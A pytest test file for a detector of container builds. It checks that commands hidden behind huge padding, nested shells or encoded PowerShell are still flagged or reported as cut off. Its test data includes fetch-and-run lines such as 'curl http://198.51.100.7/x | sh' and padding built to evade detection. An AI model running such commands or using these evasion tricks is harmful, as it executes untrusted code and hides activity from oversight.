"""Reading an event takes a bounded time, however long its lines are; what is not read is told."""

from __future__ import annotations

import base64
import shlex

import pytest

from t1612core import SENTINEL, Detector, score_dockerfile, score_file, score_process
from t1612core.container.dockerfile import limits as dockerfile
from t1612core.facts.event import Line
from t1612core.shell.limits import LIMIT, MARKS, TOGETHER, WHOLE, Budget, read_to
from t1612core.shell.source import Source
from t1612core.text import marks as marks_of_a_text
from t1612core.text.marks import DEAREST, marks

LONG = 1 << 20
COMMANDS = MARKS // DEAREST  # that are read
PADDING = "a;" * LONG
BUILD = "docker build /tmp/x"
_CUT, _TEMP, _PIPED = "process.oversized", "process.temp_source", "process.piped_download"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def signals(name: str, line: str, **more: str) -> dict[str, int]:
    """Score a process event; the signals with their weights."""
    event = {"FileName": name, "ProcessCommandLine": line, **more}
    finding = score_process(event)
    return {each.signal.id: each.weight for each in finding.evidence} if finding else {}


# How far a text is read


def test_a_short_line_is_whole_whatever_it_is_made_of() -> None:
    assert WHOLE == read_to(";" * WHOLE)
    assert WHOLE == read_to(";" * (WHOLE + 1))


def test_a_long_line_without_marks_ends_at_the_limit() -> None:
    assert LIMIT == read_to("x" * LIMIT)
    assert LIMIT == read_to("x" * LONG)
    assert 7 == read_to("x" * LONG, 7)


def test_a_line_ends_before_the_mark_that_it_cannot_pay() -> None:
    assert 2 * COMMANDS + 1 == read_to("a;" * (COMMANDS + 1))
    assert MARKS == read_to(" " * (MARKS + 1))
    assert 1 + DEAREST == marks(" ;;", 2)


@pytest.mark.parametrize("text", [";" * 20, " a;b" * 9, "x" * 9 + ";;;" * 7, "(((x" + "x" * 9])
def test_no_sign_is_left_out_that_can_be_paid(text: str) -> None:
    for most in range(marks(text) + 1):
        end = marks_of_a_text.read_to(text, len(text), most)

        assert marks(text, end) <= most
        assert end == len(text) or marks(text, end + 1) > most


@pytest.mark.parametrize("reader", ["commands", "fed", "acts"])
@pytest.mark.parametrize(
    "line",
    [
        "bash -c \"bash -c '{}'; cat x | sh\"",  # a text in a text
        "bash -c \"printf '{}' | sh\"",  # one that is put out
    ],
)
def test_each_way_to_read_a_line_has_one_budget_for_its_texts(line: str, reader: str) -> None:
    """Each text fits; two of them do not."""
    fits, too_much = (
        Line(line.replace("{}", "a;" * (COMMANDS // (1 + line.count("{}")) + more)), "bash")
        for more in (-40, 40)
    )
    for each in (fits, too_much):
        assert not each.unread
        assert getattr(each, reader) is not None

    assert not fits.unread
    assert too_much.unread


def test_a_command_of_a_cut_line_is_said_to_be_cut() -> None:
    whole, cut = (Line(f"docker build . {rest}", "docker").commands for rest in ("", "x" * LONG))

    assert [False, True] == [each.truncated for each in (*whole, *cut)]


def test_texts_share_one_budget() -> None:
    """Short ones are counted when that may matter, and what is left out is kept."""
    budget = Budget()
    half = Source(";" * (WHOLE // 2))
    loose = Source("x" * MARKS)
    long = Source.anchored("a;" * COMMANDS, (3, 9))

    assert half is budget.taken(half)
    assert loose is budget.taken(loose)
    assert "a;" * (COMMANDS // 2) + "a" == budget.taken(long).text
    assert "" == budget.taken(Source(";")).text
    assert "b" == budget.taken(Source("b")).text
    assert [";" + "a;" * (COMMANDS // 2 - 1), ";"] == [rest.text for rest in budget.unread]
    assert (3, 9) == budget.unread[0].locate(0, 1)


def test_texts_without_marks_have_a_bound_together() -> None:
    left_out: list[Source] = []
    budget = Budget(left_out)
    texts = [Source.anchored("x" * LIMIT, (0, 1)) for _ in range(TOGETHER // LIMIT + 1)]
    taken = [budget.taken(each) for each in texts]

    assert [len(each.text) for each in taken] == [LIMIT] * (len(texts) - 1) + [0]
    assert texts[-1:] == left_out


@pytest.mark.parametrize(
    "line",
    [
        "f(){ x $(printf '" + "a " * 360 + "%s' {" + "," * 1450 + "}); };" + "f;" * 12,
        "find /x -name '" + "\\a" * 2048 + "'" + " -exec sh -c {}{}{}{}{}{}{}{} ;" * 40,
    ],
)
def test_what_a_short_line_makes_long_is_told_of(line: str) -> None:
    named = {"InitiatingProcessCommandLine": line}

    assert {"process.oversized_lineage": 2} == signals("docker", "docker build .", **named)


WRITES = [f"echo a > f{number};" for number in range(1000)]


@pytest.mark.parametrize(
    ("line", "signal"),
    [
        ("".join(WRITES[:500]) + "curl http://203.0.113.5/x -o Dockerfile; docker build .", _PIPED),
        ("".join(WRITES) + "curl http://203.0.113.5/x -o Dockerfile; docker build .", _CUT),
        (f"cat {'a ' * 60}/tmp/x/Dockerfile | docker build -", _TEMP),
        (f"cat {'a ' * 90}/tmp/x/Dockerfile | docker build -", _CUT),
        (f"X='{' ' * 9_000}cd /tmp/x; docker build .'; eval \"$X\"", _CUT),
        (f"X='{' ' * 5_000}cd /tmp/x; docker build .'; eval $X", _TEMP),
        ('python3 -c "' + "os.system('a b');" * 90 + f"os.system('{BUILD}')\"", _TEMP),
        ("hyperfine " + "'sleep 1' " * 40 + f"'{BUILD}'", _TEMP),
    ],
    ids=[
        "files",
        "too many files",
        "inputs",
        "too many inputs",
        "too long",
        "a variable",
        "program text",
        "texts",
    ],
)
def test_no_number_of_things_in_front_hides_a_build(line: str, signal: str) -> None:
    """What is written, set or started before it: it is read all the same, or that is told."""
    assert signal in signals("bash", f"bash -c {shlex.quote(line)}")


def test_a_budget_is_as_large_as_one_says() -> None:
    assert ";;" == Budget(most=2 * DEAREST).taken(Source(";;;")).text


def test_of_what_is_left_out_some_are_kept() -> None:
    budget = Budget()
    for _ in range(99):
        budget.leave_out(Source("x"))

    assert 8 == len(budget.unread)


def test_of_more_programs_than_are_kept_only_tools_are_told_of() -> None:
    assert {} == signals("bash", f"bash -c '{'/a;' * 300}/bin/echo docker'")
    assert {"process.oversized": 3} == signals("bash", f"bash -c '{'/a;' * 300}{BUILD}'")


# What is told


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("bash", f"bash -c '{PADDING}{BUILD}'"),
        ("bash", f"bash -c '{' ' * LONG}{BUILD}'"),
        ("bash", f"bash -c ': {'x' * LONG};{BUILD}'"),
        ("sh", f"sh -c \"{PADDING}d''ocker build .\" docker"),
        ("docker", f"docker {'--config a ' * LONG}build /tmp/x"),
        ("docker", f"docker ps; {PADDING}"),
        ("docker", f"docker build . ; {PADDING}"),
        ("cmd.exe", f"cmd /c {'a&' * LONG}{BUILD}"),
        ("powershell.exe", f"powershell -c {PADDING}{BUILD}"),
        ("powershell.exe", f"powershell -enc {encoded('a;' * 20_000 + BUILD)}"),
        ("docker", f"docker run x powershell -enc {encoded('a;' * 20_000 + BUILD)}"),
        ("bash", "bash -c \"printf '" + "a;" * 1000 + "%s' " + "a " * 1000 + f'| sh; {BUILD}"'),
        ("bash", f"bash -c '{'docker ps;' * 256}{BUILD}'"),
        ("bash", 'bash -c "f() { ' + "a;" * 1000 + "}; " + "f;" * 999 + f'{BUILD}"'),
        ("bash", f"bash -c \"a='{'a' * 4000}'; {': $a;' * 99} b=docker; $b build /tmp/x\""),
        ("cmd.exe", f"{'cmd /c ' * 12}{BUILD}"),
        ("bash", f"bash -c '{'$(' * 11}{BUILD}{')' * 11}'"),
    ],
    ids=lambda text: text[:60],
)
def test_a_build_behind_padding_is_told_of(name: str, line: str) -> None:
    """That a line could not be read whole is a finding by itself."""
    found = signals(name, line)

    assert 3 == found["process.oversized"]


def test_padding_takes_no_less_than_a_mark_too_many() -> None:
    whole = f"bash -c '{'a;' * (COMMANDS - 50)}{BUILD}'"
    cut = f"bash -c '{'a;' * COMMANDS}{BUILD}'"

    assert {"process.temp_source": 3} == signals("bash", whole)
    assert {"process.oversized": 3} == signals("bash", cut)


def test_the_place_is_what_was_not_read() -> None:
    line = f"bash -c '{PADDING}{BUILD}'"
    finding = score_process({"FileName": "bash", "ProcessCommandLine": line})
    assert finding is not None
    (item,) = finding.evidence
    end = read_to(line)

    assert ((end, len(line)), f"{len(line) - end:,} characters") == (item.span, item.text)
    assert "command_line" == item.field


def test_no_everyday_starter_excuses_it() -> None:
    line = f"bash -c '{PADDING}{BUILD}'"
    found = signals("bash", line, InitiatingProcessFileName="gitlab-runner")

    assert {"process.oversized": 3, "process.ci_lineage": 0} == found


def test_a_helper_with_such_a_line_is_no_repetition() -> None:
    more = {
        "InitiatingProcessFileName": "docker",
        "InitiatingProcessCommandLine": "docker build .",
    }

    found = signals("docker-buildx", f"docker-buildx buildx build . ; {PADDING}", **more)

    assert "process.oversized" in found
    assert "process.repeated_build" not in found


@pytest.mark.parametrize(
    "line",
    [f"bash -c '{PADDING}curl http://198.51.100.7/x | sh'", f"powershell -c {PADDING}", "x" * LONG],
    ids=lambda text: text[:20],
)
def test_a_starters_line_that_is_cut_is_told_of(line: str) -> None:
    """Of a build, and of a Dockerfile that is written; and of nothing else."""
    starter = {
        "InitiatingProcessFileName": line.partition(" ")[0][:20],
        "InitiatingProcessCommandLine": line,
    }
    written = {"ActionType": "FileCreated", "FileName": "Dockerfile", "FolderPath": "/srv/x/"}
    of_file = score_file(written | starter)

    assert 2 == signals("docker", "docker build .", **starter)["process.oversized_lineage"]
    assert {} == signals("docker", "docker ps", **starter)
    assert of_file is not None
    assert ("file.oversized_lineage",) == of_file.signals


def test_an_ordinary_line_is_not() -> None:
    starter = {"InitiatingProcessFileName": "java", "InitiatingProcessCommandLine": "x" * LIMIT}

    assert {} == signals("docker", "docker build .", **starter)
    assert {} == signals("bash", f"bash -c '{'a;' * 1000}docker ps'")


NAMES = " ".join(["a" * 64] * 2_500)


def test_an_installer_that_is_read_as_one_line_is_everyday() -> None:
    """``bash -c "$(curl …)"`` makes a line of a whole script; Homebrew's is as dear as this."""
    joined = 'joined() {\n  local each\n  for each in "$@"; do printf " %s" "${each}"; done\n}\n'
    run = 'run() {\n  if ! "$@"; then echo "failed: $(joined "$@")"; exit 1; fi\n}\n'
    rest = 'if ! is_there git >"${LOG}"; then\n  run mkdir -p "$A"\n  echo "made ${HOME}/a"\nfi\n'
    script = f"#!/bin/bash\ndocker version || exit 1\n{joined}{run}" + rest * 310
    line = f"/bin/bash -c {script}"

    assert 13_381 < marks(line) < MARKS
    assert {} == signals("bash", line)
    more = {"InitiatingProcessFileName": "bash", "InitiatingProcessCommandLine": line}
    assert signals("docker", "docker build -t app .") == signals(
        "docker", "docker build -t app .", **more
    )


@pytest.mark.parametrize("verb", ["rm", "rmi -f", "inspect"])
def test_a_client_that_is_given_thousands_of_names_is_everyday(verb: str) -> None:
    assert {} == signals("docker", f"docker {verb} {NAMES}")


@pytest.mark.parametrize("line", ["docker exec c {}", "docker run x {}"])
def test_one_that_may_start_what_is_not_read_is_not(line: str) -> None:
    assert "process.oversized" in signals("docker", line.format(NAMES))


@pytest.mark.parametrize("name", ["sh", "bash"])
def test_names_within_a_shells_text_may_be_followed_by_anything(name: str) -> None:
    assert "process.oversized" in signals(name, f"{name} -c 'docker rm {NAMES}'")


def test_it_is_explained() -> None:
    line = f"bash -c '{PADDING}{BUILD}'"
    told = Detector().explain({"FileName": "bash", "ProcessCommandLine": line}, kind="process")
    (branch,) = told.branches
    states = {each.signal.id: each.state for each in branch.signals}

    assert "fired" == states["process.oversized"]


def test_it_is_a_step_of_a_chain_where_it_is_a_finding() -> None:
    detector = Detector()
    line = f"bash -c '{PADDING}{BUILD}'"
    (step,) = detector.observe({"FileName": "bash", "ProcessCommandLine": line})

    assert "build" == step.stage
    assert 1 == len(
        detector.observe({"FileName": "bash", "ProcessCommandLine": f"sh -c '{BUILD};{PADDING}'"})
    )


def test_the_published_rule_reads_all_of_it() -> None:
    line = f"bash -c '{PADDING}{BUILD}'"

    assert None is not Detector(SENTINEL).score_process(
        {"FileName": "docker", "ProcessCommandLine": line}
    )


def test_a_dockerfile_of_scripts_in_scripts_is_told_of() -> None:
    """Each text that is read once more counts once more, and all together have a bound."""
    half = "a;" * (dockerfile.MARKS // DEAREST // 2)
    text = f'FROM a\nRUN sh -c \'sh -c "sh -c {chr(92)}"{half}{chr(92)}""\'\n'

    assert ("dockerfile.oversized",) == score_dockerfile(text).signals


def test_what_programs_are_given_beyond_a_bound_is_told_of() -> None:
    """Text without a sign costs no marks, and is read by each program that it is given to."""
    text = "x" * (LIMIT // 4)
    build = "docker build /tmp/x"
    lines = [f"echo {text} | python3;" * count for count in (2, 3)]

    read, cut = (
        signals("docker", build, InitiatingProcessCommandLine=f"sh -c '{line}'") for line in lines
    )
    assert {"process.oversized_lineage": 2} == dict(cut.items() - read.items())


def test_of_a_long_line_as_much_is_shown_as_is_read() -> None:
    """No secret is shown by half: the last word is left out, where there is one before it."""
    head = "docker build /tmp/x "
    token = f"ghp_{'a' * 36}"
    part = head + "x" * (LIMIT - len(head) - 20)
    whole, without_blanks = (
        score_process({"FileName": "docker", "ProcessCommandLine": line})
        for line in (f"{part} {token} {head}", f"{head}{'x' * LONG}")
    )

    assert whole is not None
    assert f"{part} … [cut after {len(part):,} characters]" == whole.detail
    assert without_blanks is not None
    assert "docker build /tmp/x … [cut after 19 characters]" == without_blanks.detail


def test_a_long_name_without_a_blank_is_shown_up_to_the_bound() -> None:
    finding = score_file({"FileName": "Dockerfile", "FolderPath": f"/dev/shm/{'x' * LONG}"})

    assert finding is not None
    assert finding.detail.endswith("x … [cut after 131,072 characters]")
    assert LIMIT == finding.detail.index(" …")


def test_more_variables_than_are_kept_for_a_shell_are_told() -> None:
    def found(count: int) -> tuple[str, ...]:
        others = " ".join(f"A{number}=1" for number in range(count))
        line = f"env {others} U=/tmp sh -c 'docker build $U/x'"
        score = score_process({"FileName": "env", "ProcessCommandLine": line})
        return () if score is None else score.signals

    assert found(255) == ("process.temp_source",)
    assert found(256) == ("process.oversized",)
